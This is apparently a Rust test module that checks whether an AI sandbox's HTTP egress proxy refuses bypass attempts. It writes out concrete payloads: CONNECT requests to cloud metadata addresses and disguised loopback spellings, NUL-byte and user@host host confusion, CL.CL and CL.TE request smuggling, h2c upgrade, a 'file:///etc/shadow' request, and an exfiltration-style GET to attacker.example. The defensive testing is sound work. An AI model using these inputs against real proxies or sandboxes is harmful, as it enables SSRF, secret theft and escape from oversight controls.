//! Tricks at the HTTP proxy: other spellings of an address, requests that parsers read differently, the door itself.

use super::Stopped::{Absent, Status};
use super::attempt::{absent_unless, each, given, with_setting};
use super::talk::{CLIENT_HELLO, allowed_is_reachable_by_proxy, proxy, proxy_answer};
use super::{Attack, Context, Control, Outcome, Scope, Stopped};

const FORBIDDEN: &[Stopped] = &[Status(403)];
const MALFORMED: &[Stopped] = &[Status(400)];

const fn refused(
    name: &'static str,
    what: &'static str,
    reference: &'static str,
    expect: &'static [Stopped],
    run: fn(&Context) -> Outcome,
) -> Attack {
    let control = Control::Inside(allowed_is_reachable_by_proxy);
    Attack { name, what, reference, expect, layer: "egress door", scope: Scope::Everywhere, run, control }
}

pub(super) const ATTACKS: &[Attack] = &[
    refused(
        "connect-to-other-host",
        "CONNECT to a host that no rule names",
        "claude-code 77045, 78608, 89165",
        FORBIDDEN,
        |_| each(["example.com:443", "attacker.example:8443"], connect),
    ),
    refused("connect-to-dns-over-https", "CONNECT to public resolvers over HTTPS", "srt 88", FORBIDDEN, |_| {
        each(["dns.google:443", "cloudflare-dns.com:443", "dns.quad9.net:443"], connect)
    }),
    refused("connect-to-address", "CONNECT to an address in place of a name", "OpenShell #1498", FORBIDDEN, |_| {
        each(["93.184.216.34:443", "[2606:2800:220:1::1]:443"], connect)
    }),
    refused(
        "connect-to-metadata-service",
        "CONNECT to the clouds' metadata services",
        "fullsend 265",
        FORBIDDEN,
        |_| {
            let services = [
                "169.254.169.254:80",
                "metadata.google.internal:80",
                "100.100.100.200:80",
                "168.63.129.16:80",
                "[fd00:ec2::254]:80",
                "[64:ff9b::a9fe:a9fe]:80",
                "[::ffff:169.254.169.254]:80",
            ];
            each(services, connect)
        },
    ),
    refused(
        "connect-to-host-loopback",
        "CONNECT to a service on the host's loopback",
        "LibreCodeInterpreter PR 95",
        FORBIDDEN,
        |c| {
            with_setting("host-port", c.settings.host_port, |port| {
                let hosts = [
                    "127.0.0.1",
                    "localhost",
                    "[::1]",
                    "0.0.0.0",
                    "[::]",
                    "127.0.0.2",
                    "[::ffff:127.0.0.1]",
                    "[64:ff9b::7f00:1]",
                ];
                each(hosts, |host| connect(&format!("{host}:{port}")))
            })
        },
    ),
    refused(
        "connect-to-disguised-loopback",
        "the same in decimal, hexadecimal, octal and short forms",
        "OpenShell #1498",
        MALFORMED,
        |c| {
            with_setting("host-port", c.settings.host_port, |port| {
                let hosts =
                    ["2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.0.01", "0x7f.0.0.1", "127.0.0.0x1"];
                each(hosts, |host| connect(&format!("{host}:{port}")))
            })
        },
    ),
    refused(
        "connect-to-the-proxy-itself",
        "CONNECT through the proxy to the proxy, over and over",
        "OpenShell C44",
        FORBIDDEN,
        |_| each(["127.0.0.1:3128", "localhost:3128", "[::1]:3128"], connect),
    ),
    refused(
        "connect-with-nul-byte",
        "CONNECT to a name that ends early for some parsers",
        "OpenShell #1498 (SOCKS5 NUL)",
        MALFORMED,
        |_| each(["allowed.example\0.attacker.example:443", "attacker.example\0:443"], connect),
    ),
    refused(
        "connect-with-encoded-nul",
        "CONNECT to a name with %00 and other encoded characters",
        "OpenShell #1498",
        MALFORMED,
        |_| each(["allowed.example%00.attacker.example:443", "%31%32%37.0.0.1:80"], connect),
    ),
    refused(
        "connect-with-user-part",
        "CONNECT to user@host, where a parser may take the user for the host",
        "OpenShell #1498",
        MALFORMED,
        |_| {
            each(
                [
                    "allowed.example@attacker.example:443",
                    "a:b@attacker.example:443",
                    "allowed.example:443@attacker.example:443",
                ],
                connect,
            )
        },
    ),
    refused(
        "connect-with-trailing-dot-and-case",
        "CONNECT to a host in unusual spelling",
        "OpenShell #1498",
        FORBIDDEN,
        |_| each(["attacker.example.:443", "ATTACKER.example:443", "localhost.:80"], connect),
    ),
    refused(
        "connect-with-strange-port",
        "CONNECT to ports that parsers read differently",
        "OpenShell: `08080` passed",
        MALFORMED,
        |_| {
            each(
                [
                    "attacker.example:0",
                    "attacker.example:65979",
                    "attacker.example:0443",
                    "attacker.example:+443",
                    "attacker.example:",
                    "attacker.example",
                ],
                connect,
            )
        },
    ),
    refused("connect-with-path", "CONNECT to what is not host and port", "", MALFORMED, |_| {
        each(["attacker.example:443/allowed.example", "http://attacker.example/", "*", "/"], connect)
    }),
    refused(
        "connect-to-international-name",
        "CONNECT to a name that looks like another",
        "OpenShell C38",
        MALFORMED,
        |_| each(["\u{430}llowed.example:443", "attacker\u{3002}example:443"], connect),
    ),
    refused(
        "connect-with-line-break",
        "smuggle a header or a second request into the target",
        "CWE-93",
        MALFORMED,
        |_| each(["a b:443", "a\tb:443", "a\rb:443"], connect),
    ),
    refused(
        "absolute-form-to-other-host",
        "ask the proxy for a plain HTTP page of a host that no rule names",
        "claude-code 40213",
        FORBIDDEN,
        |_| get("http://attacker.example/steal?key=1", "attacker.example"),
    ),
    refused(
        "absolute-form-with-other-host-header",
        "name one host in the request line and another in the header",
        "OpenShell host mismatch",
        FORBIDDEN,
        |c| {
            let allowed = c.settings.allowed.map_or_else(|| "localhost".to_owned(), |address| address.to_string());
            let forms = [
                ("http://attacker.example/".to_owned(), allowed.clone()),
                (format!("http://{allowed}/"), "attacker.example".to_owned()),
            ];
            each(forms, |(target, host)| get(&target, &host))
        },
    ),
    refused("origin-form-to-proxy", "send the proxy a request without a host in its line", "", MALFORMED, |_| {
        get("/", "attacker.example")
    }),
    refused(
        "file-and-other-schemes",
        "ask the proxy for a file, and for FTP and Gopher",
        "SSRF classics",
        MALFORMED,
        |_| {
            each(["file:///etc/shadow", "ftp://attacker.example/", "gopher://attacker.example:70/"], |target| {
                get(target, "attacker.example")
            })
        },
    ),
    refused("two-host-headers", "send two Host headers", "OpenShell #637 class", MALFORMED, |_| {
        proxy("GET http://attacker.example/ HTTP/1.1\r\nhost: localhost\r\nhost: attacker.example\r\n\r\n")
    }),
    refused("two-lengths", "send two content lengths (CL.CL)", "OpenShell #637", MALFORMED, |_| {
        proxy(
            "POST http://attacker.example/ HTTP/1.1\r\nhost: attacker.example\r\ncontent-length: 4\r\ncontent-length: 5\r\n\r\nabcd",
        )
    }),
    refused("length-and-chunks", "send a content length and chunks (CL.TE)", "OpenShell #637", MALFORMED, |_| {
        proxy(
            "POST http://attacker.example/ HTTP/1.1\r\nhost: attacker.example\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
        )
    }),
    refused(
        "folded-and-bare-lines",
        "send folded headers and lines that end in LF alone",
        "OpenShell C42",
        MALFORMED,
        |_| {
            let heads = [
                "GET http://attacker.example/ HTTP/1.1\r\nhost: localhost\r\n attacker.example\r\n\r\n",
                "GET http://attacker.example/ HTTP/1.1\r\nhost : attacker.example\r\n\r\n",
                "GET http://attacker.example/ HTTP/1.1\r\nhost: attacker.example\nx: y\r\n\r\n",
            ];
            each(heads, proxy)
        },
    ),
    refused("upgrade-to-http2", "leave HTTP/1 for HTTP/2 in the clear by upgrade", "OpenShell h2c", FORBIDDEN, |_| {
        proxy(
            "GET http://attacker.example/ HTTP/1.1\r\nhost: attacker.example\r\nconnection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n",
        )
    }),
    refused("http2-preface", "speak HTTP/2 to the proxy from the first byte", "OpenShell h2c", MALFORMED, |_| {
        proxy("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0")
    }),
    refused("tls-to-the-proxy", "speak TLS to the proxy", "", MALFORMED, |_| proxy(CLIENT_HELLO)),
    refused("huge-head", "send a request head without end", "OpenShell: 100k headers", MALFORMED, |_| {
        let mut head = b"GET http://attacker.example/ HTTP/1.1\r\nhost: attacker.example\r\n".to_vec();
        for number in 0..20_000 {
            head.extend_from_slice(format!("x-{number}: {number}\r\n").as_bytes());
        }
        proxy(head)
    }),
    Attack {
        name: "second-request-for-other-host",
        what: "send an allowed request and, on the same connection, one for another host",
        reference: "OpenShell #2251",
        expect: &[Absent],
        layer: "egress door",
        scope: Scope::Everywhere,
        run: second_request,
        control: Control::Inside(allowed_is_reachable_by_proxy),
    },
];

fn connect(authority: &str) -> Outcome {
    proxy(format!("CONNECT {authority} HTTP/1.1\r\nhost: {authority}\r\n\r\n"))
}

fn get(target: &str, host: &str) -> Outcome {
    proxy(format!("GET {target} HTTP/1.1\r\nhost: {host}\r\n\r\n"))
}

/// The first may be answered; the second must not be.
fn second_request(context: &Context) -> Outcome {
    with_setting("allowed", context.settings.allowed, |allowed| {
        let first = format!("GET http://{allowed}/ HTTP/1.1\r\nhost: {allowed}\r\n\r\n");
        let second = "GET http://attacker.example/ HTTP/1.1\r\nhost: attacker.example\r\n\r\n";
        given("speak to the proxy", proxy_answer(first + second), |answer| {
            let text = String::from_utf8_lossy(&answer).into_owned();
            let granted = text.matches(" 200 OK\r\n").count();
            absent_unless(if granted > 1 { vec![format!("{granted} answers")] } else { vec![] })
        })
    })
}
